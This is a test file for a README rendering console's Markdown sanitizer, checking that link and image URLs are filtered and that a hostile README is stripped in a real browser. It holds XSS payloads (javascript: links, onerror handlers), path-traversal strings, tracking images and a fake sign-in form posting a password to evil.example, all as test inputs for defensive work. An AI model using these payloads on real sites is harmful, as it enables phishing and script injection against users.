import { launchBrowser } from '@mlebotics/testing';
import { build } from 'esbuild';
import { fileURLToPath } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  packageImagePath,
  safeLinkHref,
  type ReadmeOptions,
  type RenderedReadme,
  type renderMarkdown,
} from './markdown';

describe('safeLinkHref', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'blob:http://localhost:5000/1234',
    'file:///etc/passwd',
    '//evil.example/',
    '/\\evil.example',
    '/plugins/other',
    './docs/usage.md',
    '#install',
    '',
  ])('drops %j', (href) => {
    expect(safeLinkHref(href)).toBeUndefined();
  });

  it.each([
    ['https://example.com/docs', 'https://example.com/docs'],
    ['HTTP://Example.com', 'http://example.com/'],
    ['mailto:help@example.com', 'mailto:help@example.com'],
  ])('keeps %j', (href, expected) => {
    expect(safeLinkHref(href)).toBe(expected);
  });
});

describe('packageImagePath', () => {
  it.each([
    'https://tracker.example/p.png',
    'http://tracker.example/p.png',
    'HTTPS://tracker.example/p.png',
    '//tracker.example/p.png',
    '/\\tracker.example/p.png',
    '\\\\tracker.example\\p.png',
    ' //tracker.example/p.png',
    '/%2F/tracker.example/p.png',
    'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:http://localhost:5000/0b1c',
    'javascript:alert(1)',
    'shot.png?v=2',
    'shot.png#frag',
    'sh\u0000ot.png',
    'sh\tot.png',
    '%2e%2e%2fshot.png',
    'a/%2e%2e/%2e%2e/shot.png%00',
    'C:/shot.png',
    '',
    './',
  ])('refuses %j', (src) => {
    expect(packageImagePath(src)).toBeUndefined();
  });

  it.each([
    ['./shot.png', 'README.md', 'shot.png'],
    ['shot.png', 'README.md', 'shot.png'],
    ['/shot.png', 'docs/README.md', 'shot.png'],
    ['img/a.png', 'docs/README.md', 'docs/img/a.png'],
    ['../shot.png', 'docs/README.md', 'shot.png'],
    // Above the package root stays at the root: it never names anything outside the package.
    ['../../../shot.png', 'README.md', 'shot.png'],
    ['my%20shot.png', 'README.md', 'my shot.png'],
  ])('resolves %j from %j to the package file %j', (src, readme, expected) => {
    expect(packageImagePath(src, readme)).toBe(expected);
  });
});

/** A README that tries everything the console must not let it do. */
const HOSTILE = `# Hostile

<div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff" id="root" class="app-header">
<h2>Your session expired</h2>
<p>Sign in again to continue.</p>
</div>

<style>body { display: none } .app-header { display: none }</style>
<link rel="stylesheet" href="https://tracker.example/x.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">

<iframe src="https://evil.example/"></iframe>

<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>

<img src="https://tracker.example/p.png" alt="tracker">
<img src="//tracker.example/p2.png" alt="protocol-relative">
<img srcset="https://tracker.example/2x.png 2x" src="./shot.png" alt="responsive">
<picture><source srcset="https://tracker.example/s.png"><img src="./shot.png" alt="picture"></picture>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="svg data">
<img src="blob:http://localhost:5000/forged" alt="forged blob">
<img src="./shot.png" alt="Screenshot" width="99999" onerror="alert(1)">
<svg><image href="https://tracker.example/svg.png"/></svg>
<video poster="https://tracker.example/poster.png"></video>
<object data="https://evil.example/x"></object>

![markdown shot](shot.png)
![tiny](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)

[js link](javascript:alert(1))
<a href="JaVaScRiPt:alert(1)">js upper</a>
<a href="java&#x09;script:alert(1)">js tab</a>
<a href="https://example.com/docs" target="_self" rel="opener" data-x="1" aria-hidden="true">docs</a>
<span style="position:absolute;left:-500px;top:-500px">absolute</span>
<p style="margin-top:-2000px" align="center">negative margin</p>
<ol start="3"><li>three</li></ol>
`;

const TAGS = new Set(
  'a abbr b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['href', 'target', 'rel', 'src', 'alt', 'title', 'align', 'start']);

interface Inspected extends RenderedReadme {
  elements: Array<{ tag: string; attributes: Record<string, string> }>;
  text: string;
}

describe('renderMarkdown in Chromium', () => {
  let browser: Browser;
  let page: Page;
  const errors: string[] = [];

  beforeAll(async () => {
    // The sanitizer runs where it runs for operators: DOMPurify in a real browser.
    const bundle = await build({
      entryPoints: [fileURLToPath(new URL('./markdown.ts', import.meta.url))],
      bundle: true,
      format: 'iife',
      globalName: 'readme',
      platform: 'browser',
      target: 'es2022',
      write: false,
      logLevel: 'silent',
    });
    browser = await launchBrowser();
    page = await browser.newPage();
    page.on('pageerror', (error) => errors.push(error.message));
    await page.setContent('<!doctype html><html><head></head><body></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
  }, 60_000);
  afterAll(() => browser?.close());

  async function render(markdown: string, options: { readmePath?: string; images?: Record<string, string> } = {}) {
    const result = await page.evaluate(
      async ([md, opts]) => {
        const api = (window as unknown as { readme: { renderMarkdown: typeof renderMarkdown } }).readme;
        const rendered = await api.renderMarkdown(md, {
          readmePath: opts.readmePath,
          images: new Map(Object.entries(opts.images ?? {})),
        } satisfies ReadmeOptions);
        const template = document.createElement('template');
        template.innerHTML = rendered.html;
        const elements = [...template.content.querySelectorAll('*')].map((el) => ({
          tag: el.localName,
          attributes: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value])),
        }));
        return { ...rendered, elements, text: template.content.textContent ?? '' };
      },
      [markdown, options] as const,
    );
    expect(errors).toEqual([]);
    return result as Inspected;
  }

  it('keeps only text structure from a hostile README: no styles, classes, ids, forms, frames or remote loads', async () => {
    const out = await render(HOSTILE, { images: { 'shot.png': 'blob:http://localhost:5000/package-shot' } });
    for (const { tag, attributes } of out.elements) {
      expect(TAGS.has(tag), `<${tag}> is not allowed`).toBe(true);
      for (const name of Object.keys(attributes)) expect(ATTRIBUTES.has(name), `${name} on <${tag}>`).toBe(true);
    }
    expect(out.html).not.toMatch(/style|class=|id=|srcset|onerror|tracker\.example|evil\.example|javascript/i);
    expect(out.text).not.toContain('display: none');
    // The fake dialog's text survives, as inert text inside the README.
    expect(out.text).toContain('Your session expired');

    const images = out.elements.filter((e) => e.tag === 'img');
    const sources = images.map((e) => e.attributes.src).filter((src) => src !== undefined);
    expect(
      sources.every((src) => src === 'blob:http://localhost:5000/package-shot' || src.startsWith('data:image/png;')),
    ).toBe(true);
    expect(images.find((e) => e.attributes.alt === 'Screenshot')?.attributes).toEqual({
      src: 'blob:http://localhost:5000/package-shot',
      alt: 'Screenshot',
    });
    for (const alt of ['tracker', 'protocol-relative', 'svg data', 'forged blob']) {
      expect(images.find((e) => e.attributes.alt === alt)?.attributes.src, alt).toBeUndefined();
    }
    expect(out.packageImages).toEqual(['shot.png']);

    const links = out.elements.filter((e) => e.tag === 'a');
    expect(links.filter((a) => a.attributes.href)).toEqual([
      {
        tag: 'a',
        attributes: { href: 'https://example.com/docs', target: '_blank', rel: 'noopener noreferrer nofollow' },
      },
    ]);
    expect(out.elements.find((e) => e.tag === 'p' && e.attributes.align)?.attributes).toEqual({ align: 'center' });
    expect(out.elements.find((e) => e.tag === 'ol')?.attributes).toEqual({ start: '3' });
  });

  it('shows package images only from the URLs it was given, resolved against the README folder', async () => {
    const markdown = '![a](img/a.png)\n\n![b](../b.png)\n\n![c](img/c.png)\n\n<img src="./img/a.png" alt="again">';
    const first = await render(markdown, { readmePath: 'docs/README.md' });
    expect(first.packageImages).toEqual(['docs/img/a.png', 'b.png', 'docs/img/c.png']);
    expect(first.elements.filter((e) => e.attributes.src)).toEqual([]);

    const second = await render(markdown, {
      readmePath: 'docs/README.md',
      images: { 'docs/img/a.png': 'blob:http://localhost:5000/a', 'b.png': 'https://tracker.example/b.png' },
    });
    expect(second.elements.filter((e) => e.tag === 'img').map((e) => e.attributes.src)).toEqual([
      'blob:http://localhost:5000/a',
      // Only blob: URLs are ever used, whatever the map holds.
      undefined,
      undefined,
      'blob:http://localhost:5000/a',
    ]);
  });

  it('keeps ordinary Markdown intact', async () => {
    const out = await render(
      '# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```js\nlet x = 1;\n```\n\n- [x] done\n',
    );
    expect(out.elements.map((e) => e.tag)).toEqual(
      expect.arrayContaining(['h1', 'strong', 'code', 'table', 'th', 'td', 'pre', 'ul', 'li']),
    );
    expect(out.elements.find((e) => e.tag === 'th')?.attributes).toEqual({ align: 'center' });
    expect(out.text).toContain('let x = 1;');
  });
});
